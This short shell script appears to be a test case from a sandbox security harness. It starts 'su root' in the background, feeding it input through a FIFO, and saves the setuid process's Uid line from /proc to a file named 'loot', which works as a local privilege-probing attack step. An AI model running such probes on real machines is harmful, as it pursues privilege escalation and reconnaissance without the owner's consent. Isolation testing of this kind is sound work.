#!/bin/sh
: > "$ARENA/ws/ran"
mkfifo .attack/wait; (sleep 1 > .attack/wait) &
su root < .attack/wait > /dev/null 2>&1 &
sleep 0.3; grep ^Uid "/proc/$!/status" > loot
